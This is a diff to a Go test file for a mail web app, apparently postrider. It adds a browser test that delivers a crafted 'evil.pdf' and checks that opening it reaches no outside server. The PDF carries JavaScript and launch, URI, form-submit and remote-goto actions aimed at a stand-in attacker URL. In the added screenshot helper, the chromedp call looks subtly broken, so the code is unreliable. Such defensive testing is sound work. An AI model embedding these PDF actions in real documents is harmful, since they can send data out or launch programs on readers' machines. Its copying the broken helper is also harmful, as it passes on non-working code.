@@ -1,7 +1,11 @@
 package main
 
 import (
+	"bytes"
+	"context"
+	"fmt"
 	"hash/crc32"
+	"image/png"
 	"net/http"
 	"net/http/httptest"
 	"strings"
@@ -9,6 +13,7 @@ import (
 
 	"github.com/chromedp/chromedp"
 
+	"github.com/postrider/postrider/internal/peers"
 	"github.com/postrider/postrider/mail"
 )
 
@@ -84,6 +89,57 @@ func testHostileFiles(t *testing.T, w *web) {
 	if eval[bool](t, w.ctx, "window.pwned !== undefined || document.cookie !== ''") {
 		t.Error("a file has run, or set a cookie")
 	}
+}
+
+// testPDF looks at a PDF as the browser's own reader shows it, and where there is none.
+func testPDF(t *testing.T, w *web) {
+	w.deliver(written(t, files(t)))
+	w.open(t, "/messages/"+w.wait("subject:files"))
+	w.click(t, `.file[data-name="invoice.pdf"]`)
+	until(t, w.ctx, `document.querySelector("iframe.pdf") !== null`)
+	if !eval[bool](t, w.ctx, "navigator.pdfViewerEnabled") {
+		t.Fatal("this browser has no reader of PDF; the tests want one that has")
+	}
+	// The reader is a program of the browser's that no script sees into. The page of the PDF is red.
+	peers.Until(t, "the PDF is drawn", func() bool { return reds(t, w.ctx) > 20_000 })
+	shoot(t, w.ctx, "part-pdf", 1280, "light")
+
+	// What a PDF does by itself when it is opened: nothing that leaves the reader.
+	url, seen := evil(t)
+	script := fmt.Sprintf(`/S/JavaScript/JS(for \(const f of [\(\) => app.launchURL\("%[1]s/launch", false\), \(\) => app.launchURL\("%[1]s/window", true\), `+
+		`\(\) => this.submitForm\("%[1]s/submit"\), \(\) => this.getURL\("%[1]s/get"\), \(\) => app.mailMsg\(false, "eve@example.org"\)]\) try { f\(\) } catch {})`, url)
+	w.deliver(written(t, &mail.Message{From: mail.List("eve@example.org"), To: mail.List("bob@example.net"), Subject: "Evil document", Text: "Open it.", Attachments: []mail.Attachment{
+		mail.FromBytes("evil.pdf", pdf("Evil", script, "/S/URI/URI("+url+"/uri)", "/S/SubmitForm/F<</FS/URL/F("+url+"/form)>>/Fields[]", "/S/GoToR/F("+url+"/remote)/D[0/Fit]", "/S/Launch/F("+url+"/program)"))}}))
+	id := w.wait("subject:evil+subject:document")
+	w.open(t, "/messages/"+id+"?part=2&view=parts")
+	peers.Until(t, "the hostile PDF is drawn", func() bool { return reds(t, w.ctx) > 20_000 })
+	quiet(t, w.ctx, w.web+"/messages/"+id+"?part=2&view=parts", seen)
+
+	// A browser without a reader says so, and the page says what to do instead.
+	eval[bool](t, w.ctx, `Object.defineProperty(Navigator.prototype, "pdfViewerEnabled", { get: () => false }), true`)
+	w.click(t, `.file[data-name="evil.pdf"]`)
+	until(t, w.ctx, `!document.querySelector("iframe.pdf") && document.querySelector(".shown").innerText.includes("shows no PDF")`)
+}
+
+// reds counts the pixels of the window that are as red as the page of a pdf.
+func reds(t *testing.T, ctx context.Context) (n int) {
+	t.Helper()
+	shot, err := chromedp.Run(ctx, chromedp.CaptureScreenshot())
+	if err != nil {
+		t.Fatal(err)
+	}
+	img, err := png.Decode(bytes.NewReader(shot))
+	if err != nil {
+		t.Fatal(err)
+	}
+	for y := range img.Bounds().Dy() {
+		for x := range img.Bounds().Dx() {
+			if r, g, b, _ := img.At(x, y).RGBA(); r > 0xf000 && g < 0x1000 && b < 0x1000 {
+				n++
+			}
+		}
+	}
+	return n
 }
 
 // testHostileLinks has the server look at links that lead to what is not for it.
